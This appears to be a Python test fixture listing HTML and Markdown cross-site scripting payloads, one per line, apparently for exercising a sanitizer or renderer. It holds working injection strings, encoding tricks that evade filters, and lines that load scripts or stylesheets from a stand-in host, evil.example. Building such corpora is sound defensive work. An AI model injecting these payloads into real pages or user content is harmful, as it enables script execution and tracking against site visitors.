"""What people have tried to smuggle through: one payload a line."""

HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"//
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data=javascript:alert(1)></object>
<embed src=data:text/html;base64,PHNjcmlwdD4=>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a onclick=alert(1)>x</a>
<a style="background:url(javascript:alert(1))">x</a>
<p style="position:fixed;inset:0">x</p>
<style>@import "//evil.example/x.css";</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<portal src=javascript:alert(1)>
<x onclick=alert(1)>x</x>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
</p></div></body></html><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script\>alert(1)\</script\>
""".strip().splitlines()

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](JaVaScRiPt&#58;alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](<java script:alert(1)>)
[x](<javascript:alert(1)>)
[x](\javascript:alert(1))
[x](%6aavascript:alert(1))
[x](&#1;javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zz4=)
[x](data:image/png;base64,iVBORw0KGgo=)
[x](ftp://example.org/x.exe)
[x](tel:+900123456)
[x](file:///etc/passwd)
[x](blob:https://example.org/1)
[x](view-source:javascript:alert(1))
[x](intent://x#Intent;end)
[x](ſcript:alert(1))
![x](javascript:alert(1))
![x](https://evil.example/track.gif)
![x](x"onerror="alert(1))
[x](https://example.org/"onmouseover="alert(1))
[x](https://example.org/ "title\" onmouseover=\"alert(1)")
[x](https://example.org/ '"><img src=x onerror=alert(1)>')
[x](https://example.org "&quot; onclick=alert(1)")
[x](<https://example.org/" onclick="alert(1)>)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<vbscript:x>
<a@example.org"onclick="alert(1)>
<https://example.org/"onclick="alert(1)>
[x]: javascript:alert(1)\n\n[x]
[x]: <data:text/html,x> "y"\n\n[x][x] ![x]
[<img src=x onerror=alert(1)>](https://example.org)
[x](https://example.org)<script>alert(1)</script>
`<script>alert(1)</script>`
```html" onclick="alert(1)\n<script>alert(1)</script>\n```
~~~ <img src=x onerror=alert(1)>\nx\n~~~
    <script>alert(1)</script>
> <script>alert(1)</script>
1. <script>alert(1)</script>
# <script>alert(1)</script>
| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |
| a |\n|:-:" onclick="alert(1)|\n| b |
**<script>**alert(1)**</script>**
~~<svg onload=alert(1)>~~
&lt;img src=x onerror=alert(1)&gt;
[[x](javascript:alert(1))](https://example.org)
""".strip().splitlines()
#: In those, \n stands for a new line.
PAYLOADS = [*HTML, *(line.replace("\\n", "\n") for line in MARKDOWN)]
